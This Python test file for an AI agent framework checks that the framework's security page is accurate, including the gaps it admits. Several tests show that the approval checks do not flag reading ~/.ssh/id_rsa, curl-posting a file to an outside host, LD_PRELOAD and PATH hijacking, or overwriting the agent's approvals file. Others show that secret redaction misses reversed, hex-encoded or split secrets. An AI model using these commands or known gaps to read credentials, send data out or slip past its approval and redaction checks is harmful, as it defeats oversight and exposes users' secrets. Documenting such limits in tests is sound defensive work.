"""What the page about security says is held by tests that exist, and what it says is not protected is not."""

from __future__ import annotations

import re
import stat

from hermes_kernel import Agent
from hermes_kernel.core.redact import redact
from hermes_kernel.testing import ScriptedModel, call, say
from hermes_kernel.world.tools.danger import shell_risk
from hermes_kernel.world.tools.danger_python import python_risk
from tests.examples import DOCS

PAGE = (DOCS / "security.md").read_text(encoding="utf-8")
KEY = "sk-proj-Zm9yYmlkZGVuIGZydWl0IGlzIHN3ZWV0ZXN0"


def tables():
    """The rows of each table of claims."""
    found = re.findall(r"^\| claim \| held by \|\n\|---\|---\|\n((?:\|.*\n)+)", PAGE, re.MULTILINE)
    return [[row.strip("| ").split(" | ") for row in table.splitlines()] for table in found]


def test_every_claim_names_a_test_that_holds_it():
    rows = [row for table in tables() for row in table]
    assert len(rows) > 45
    assert [claim for claim, held in rows if not re.search(r"\]\(\.\./tests/[\w/]+\.py\)", held)] == []


def test_each_part_of_the_page_has_its_table_of_claims_or_says_what_is_not_so():
    without = {"In short", "Whom it trusts", "What is not protected"}
    for part in re.split(r"^## ", PAGE, flags=re.MULTILINE)[1:]:
        assert ("| claim | held by |" in part) == (part.splitlines()[0] not in without)


def test_code_that_writes_anywhere_or_hides_a_command_is_not_asked_about_as_the_page_admits():
    assert python_risk("open('/srv/ada/.hermes/approvals.json', 'w').write('{}')") is None
    assert shell_risk("bash cleanup.sh") is None
    assert shell_risk("make clean") is None
    assert shell_risk("PATH=/tmp/tools:$PATH ls") is None
    assert shell_risk("LD_PRELOAD=./x.so ls") is None
    assert shell_risk("rm -rf build") is not None


def test_reading_and_sending_are_not_asked_about_as_the_page_admits():
    assert shell_risk("cat ~/.ssh/id_rsa") is None
    assert shell_risk("curl -d @notes.txt https://example.org") is None


def test_a_secret_without_its_name_or_turned_into_something_else_is_not_seen_as_the_page_admits():
    for text in (
        "mysql -u me -phunter2hunter2",
        "db.example:5432:app:me:hunter2hunter2",
        "  user  password\n0  me  hunter2hunter2",
    ):
        assert redact(text) == text
    known = "hunter2hunter2"
    for form in (known[::-1], known.encode().hex(), f"{known[:7]}\n{known[7:]}"):
        assert redact(form, frozenset({known})) == form


async def test_python_sees_the_environment_as_the_page_admits(tmp_path, monkeypatch):
    monkeypatch.setenv("SOME_WORD", "a-word-like-any-other")
    model = ScriptedModel([call("python", {"code": "import os\nos.environ['SOME_WORD']"}), say("Done.")])
    async with Agent(model, home=tmp_path) as agent:
        turn = await agent.ask("What is it?")
    assert "a-word-like-any-other" in turn.messages[-2].text


async def test_what_a_model_writes_is_kept_without_the_key_and_shown_with_it_as_the_page_admits(tmp_path):
    async with Agent(ScriptedModel([say(f"It is {KEY}.")]), home=tmp_path) as agent:
        turn = await agent.ask("Which key?")
        kept = agent.store.recall(agent.session_id)
    assert KEY in turn.text
    assert KEY not in repr(kept)


async def test_whatever_a_turn_leaves_is_its_owners_alone(tmp_path):
    home = tmp_path / "home"
    model = ScriptedModel([call("python", {"code": "'long ' * 50_000"}), say("Done.")])
    async with Agent(model, home=home) as agent:
        await agent.ask("Print.")
    files = [path for path in home.rglob("*") if path.is_file()]
    assert any(path.is_relative_to(home / "results") for path in files)
    assert stat.S_IMODE(home.stat().st_mode) == 0o700
    assert {str(path) for path in files if path.stat().st_mode & 0o077} == set()
